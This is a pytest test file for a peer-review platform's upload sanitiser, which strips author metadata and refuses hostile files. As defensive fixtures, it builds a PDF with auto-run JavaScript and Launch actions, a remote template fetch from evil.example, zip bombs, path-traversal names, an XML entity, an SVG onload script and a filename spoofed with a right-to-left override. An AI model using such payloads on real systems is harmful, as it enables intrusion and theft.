"""Files under attack: what is not what it says, what tells of its author, what grows or acts when it is opened."""

import io
import json
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from stoa.coursedoc.model import FilePolicy
from stoa.peer_review.actions import cleaning
from stoa.peer_review.actions.cleaning import clean
from stoa.peer_review.rules import files
from stoa.peer_review.rules.files import Family, Trouble, Unreadable, anonymous, check, clean_name, ending_of, policy_of
from stoa.peer_review.rules.files.cleaning import cleaned
from stoa.peer_review.rules.files.kinds import NEVER
from stoa.peer_review.views.unreadable import SAID

SECRET = b"Ada Okafor, 51.5 N 0.1 W"


def a_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def a_png(*extra: bytes, width: int = 1, after: bytes = b"") -> bytes:
    head = a_chunk(b"IHDR", struct.pack(">IIBBBBB", width, 1, 8, 0, 0, 0, 0))
    rest = a_chunk(b"IDAT", zlib.compress(b"\0\0")) + a_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + rest + after


def an_exif(way: int = 6) -> bytes:
    entry = struct.pack("<HHIHH", 0x0112, 3, 1, way, 0)
    return b"Exif\0\0II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 0) + SECRET


def a_segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def a_jpeg(*extra: bytes, after: bytes = b"") -> bytes:
    frame = a_segment(0xC0, struct.pack(">BHHB", 8, 1, 1, 1) + b"\1\x11\0")
    scan = a_segment(0xDA, b"\1\1\0\0?\0") + b"\x12\xff\0\x34"
    return b"\xff\xd8" + b"".join(extra) + frame + scan + b"\xff\xd9" + after


def a_zip(**files: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in files.items():
            target.writestr(name, content)
    return made.getvalue()


def a_document(**parts: bytes) -> bytes:
    return a_zip(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>", **parts})


def inside(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        return {name: source.read(name) for name in source.namelist()}


def a_pdf(**root: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    writer.add_metadata({"/Author": SECRET.decode(), "/Producer": "Ada's own machine"})
    for name, value in root.items():
        action = DictionaryObject(
            {NameObject("/S"): NameObject(value), NameObject("/JS"): TextStringObject("app.alert(1)")}
        )
        writer.root_object[NameObject(f"/{name}")] = action
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def test_a_photo_loses_place_and_name_and_stays_upright() -> None:
    photo = a_jpeg(a_segment(0xE1, an_exif(6)), a_segment(0xFE, SECRET), a_segment(0xED, SECRET), after=SECRET)

    made = cleaned(Family.JPEG, photo)

    assert SECRET not in made
    assert struct.pack(">HHIH", 0x0112, 3, 1, 6) in made
    assert made.endswith(b"\xff\xd9")
    assert cleaned(Family.JPEG, made) == made


def test_a_png_loses_its_texts_and_what_hangs_behind_it() -> None:
    told = [a_chunk(name, SECRET) for name in (b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"tIME")]

    assert cleaned(Family.PNG, a_png(*told, after=b"<script>" + SECRET)) == a_png()


def test_a_gif_keeps_its_loop_and_loses_its_comment() -> None:
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0, 0, 0)
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"
    comment = b"\x21\xfe" + bytes([len(SECRET)]) + SECRET + b"\0"
    picture = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"

    assert cleaned(Family.GIF, head + loop + comment + picture + b";" + SECRET) == head + loop + picture + b";"


def test_a_webp_loses_exif_and_xmp() -> None:
    def riff(name: bytes, data: bytes) -> bytes:
        return name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) & 1)

    body = riff(b"VP8X", bytes([0x0C, 0, 0, 0, 0, 0, 0, 0, 0, 0])) + riff(b"VP8 ", b"xx") + riff(b"EXIF", SECRET)
    made = cleaned(Family.WEBP, riff(b"RIFF", b"WEBP" + body + riff(b"XMP ", SECRET)))

    assert SECRET not in made
    assert made[20] == 0


@pytest.mark.parametrize(
    "data", [a_png(width=200_000_001), a_png()[:-20], b"\x89PNG\r\n\x1a\n", a_jpeg()[:-3], b"\xff\xd8\xff"]
)
def test_pictures_too_large_or_cut_off_are_refused(data: bytes) -> None:
    with pytest.raises(Unreadable):
        cleaned(Family.PNG if data.startswith(b"\x89") else Family.JPEG, data)


def test_a_pdf_loses_its_author_and_does_nothing_by_itself() -> None:
    made = cleaned(Family.PDF, a_pdf(OpenAction="/JavaScript", AA="/Launch"))

    reader = PdfReader(io.BytesIO(made))
    assert len(reader.pages) == 1
    assert SECRET not in made
    assert b"Ada" not in made
    assert b"app.alert" not in made
    assert "/OpenAction" not in reader.root_object


def test_a_locked_or_broken_pdf_is_refused_with_words_of_what_to_do() -> None:
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    writer.encrypt("secret", algorithm="RC4-128")
    made = io.BytesIO()
    writer.write(made)

    with pytest.raises(Unreadable, match="Save it without one"):
        cleaned(Family.PDF, made.getvalue())
    with pytest.raises(Unreadable, match="PDF again"):
        cleaned(Family.PDF, b"%PDF-1.7\nnothing of it is true")


def test_a_document_loses_authors_and_fetches_nothing() -> None:
    made = inside(
        cleaned(
            Family.OFFICE,
            a_document(
                **{
                    "docProps/core.xml": b"<cp:coreProperties><dc:creator>Ada Okafor</dc:creator></cp:coreProperties>",
                    "docProps/app.xml": b"<Properties><Company>Ada Okafor Ltd</Company></Properties>",
                    "word/comments.xml": b'<w:comment w:author="Ada Okafor" w:initials="AO">Kept</w:comment>',
                    "word/media/photo.jpg": a_jpeg(a_segment(0xE1, an_exif())),
                    "word/_rels/document.xml.rels": b'<Relationships><Relationship Type="x/attachedTemplate" '
                    b'Target="https://evil.example/t.dotm" TargetMode="External"/><Relationship Type="x/hyperlink" '
                    b'Target="https://example.org/" TargetMode="External"/></Relationships>',
                }
            ),
        )
    )

    assert not [name for name, content in made.items() if b"Ada" in content or b"AO" in content]
    assert b"Kept" in made["word/comments.xml"]
    assert b"evil" not in made["word/_rels/document.xml.rels"]
    assert b"https://example.org/" in made["word/_rels/document.xml.rels"]


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"macro"},
        {"word/document.xml": b'<!DOCTYPE x [<!ENTITY e "a">]><x/>'},
        {"word/document.xml": "<x/>".encode("utf-16")},
        {"../outside.xml": b"<x/>"},
    ],
)
def test_documents_with_macros_entities_or_paths_outside_are_refused(parts: dict[str, bytes]) -> None:
    with pytest.raises(Unreadable):
        cleaned(Family.OFFICE, a_document(**parts))


def test_an_archive_that_grows_beyond_bounds_is_refused() -> None:
    with pytest.raises(Unreadable, match="too large"):
        cleaned(Family.ARCHIVE, a_zip(**{"zeros.txt": b"\0" * 201_000_000}))


def test_an_archive_that_lies_about_its_size_is_refused() -> None:
    bomb = bytearray(a_zip(**{"zeros.txt": b"0" * 300_000_000}))
    place = bomb.rindex(b"PK\x01\x02")
    bomb[place + 24 : place + 28] = struct.pack("<I", 10)

    with pytest.raises(Unreadable):
        cleaned(Family.ARCHIVE, bytes(bomb))


@pytest.mark.parametrize("name", ["inner.zip", "run.exe", "photo.png", "/etc/passwd.txt", "a/../../b.txt"])
def test_an_archive_is_as_strict_inside(name: str) -> None:
    with pytest.raises(Unreadable):
        cleaned(Family.ARCHIVE, a_zip(**{name: b"PK\x03\x04 or something"}))


def test_a_good_archive_is_cleaned_file_by_file() -> None:
    made = cleaned(Family.ARCHIVE, a_zip(**{"photo.png": a_png(a_chunk(b"tEXt", SECRET)), "words.txt": b"Words"}))

    assert inside(made) == {"photo.png": a_png(), "words.txt": b"Words"}


def test_a_notebook_keeps_its_cells_and_loses_its_author() -> None:
    told = {"cells": [{"source": "1 + 1", "metadata": {"by": "Ada"}}], "metadata": {"authors": ["Ada"]}, "nbformat": 4}

    made = json.loads(cleaned(Family.NOTEBOOK, json.dumps(told).encode()))

    assert made == {"cells": [{"source": "1 + 1", "metadata": {}}], "metadata": {}, "nbformat": 4}


def test_films_and_sounds_lose_their_tags_in_place() -> None:
    def box(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I4s", len(data) + 8, name) + data

    film = box(b"ftyp", b"isom") + box(b"moov", box(b"mvhd", b"x") + box(b"udta", SECRET)) + box(b"mdat", b"film")
    made = cleaned(Family.MP4, film)
    tagged = b"ID3\x04\0\0\0\0\0" + bytes([len(SECRET)]) + SECRET + b"\xff\xfb sound" + b"TAG" + SECRET.ljust(125)

    assert (len(made), SECRET in made, made[-4:]) == (len(film), False, b"film")
    assert cleaned(Family.MP3, tagged) == b"\xff\xfb sound"


@pytest.mark.parametrize(
    ("name", "content", "trouble"),
    [
        ("photo.png", b"<svg onload=alert(1)>", Trouble.CONTENT),
        ("photo.png.exe", b"MZ", Trouble.KIND),
        ("notes.txt", b"MZ\x90\0", Trouble.CONTENT),
        ("page.html", b"<script>", Trouble.KIND),
        ("notes.txt", b"", Trouble.EMPTY),
        ("noending", b"x", Trouble.KIND),
        ("notes.txt", b"x" * 2_000_001, Trouble.SIZE),
        ("notes.txt", b"words", None),
    ],
)
def test_only_what_the_assignment_takes_and_what_it_says_it_is(
    name: str, content: bytes, trouble: Trouble | None
) -> None:
    rules = policy_of(FilePolicy(types=("txt", ".PNG", "exe"), megabytes=2))

    assert rules.endings == ("txt", "png")
    assert check(rules, name=name, size=len(content), head=content) is trouble


@given(st.text(max_size=300))
@example("0" * 79 + "'0")
def test_names_are_fit_for_every_system(name: str) -> None:
    made = clean_name(name)

    assert made == clean_name(made)
    assert made.strip(" .")
    assert len(made) <= 91
    assert not set(made) & set('/\\:*?"<>|\0\n\r\u202e')


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("../../etc/passwd", "passwd"),
        ("essay\u202egnp.exe", "essaygnp.exe"),
        ("Ada Okafor - essay.PDF", "essay.pdf"),
        ("ada.pdf", "file.pdf"),
        ("okafor_ada_v2.docx", "v2.docx"),
        ("CON.txt", "CON-file.txt"),
    ],
)
def test_names_tell_nothing_of_their_author(name: str, told: str) -> None:
    assert anonymous(name, ["Ada Okafor", "ada.okafor"]) == told


@given(st.binary(max_size=2000), st.sampled_from([one for one in Family if one is not Family.PDF]))
def test_no_content_breaks_the_cleaners(data: bytes, family: Family) -> None:
    try:
        made = cleaned(family, data)
    except Unreadable:
        return
    assert isinstance(made, bytes)


def test_what_is_never_taken_is_not_taken_where_an_instructor_lists_it() -> None:
    assert policy_of(FilePolicy(types=tuple(NEVER))).endings == ()
    assert ending_of(".bashrc") == ""


def test_the_child_cleans_and_says_what_is_wrong() -> None:
    assert clean(Family.PNG, a_png(a_chunk(b"tEXt", SECRET))) == a_png()
    with pytest.raises(Unreadable, match="cut off or damaged"):
        clean(Family.PNG, a_png()[:-5])


def test_all_that_is_said_of_a_broken_file_is_said_in_every_language() -> None:
    folder = Path(files.__file__).parent
    source = "".join(path.read_text() for path in [*folder.glob("*.py"), Path(cleaning.__file__)])
    said = re.findall(r'(?:Unreadable\(|BROKEN = |LOCKED = )"([^"]+)"', source)

    assert len(said) > 15
    assert set(said) == set(SAID)
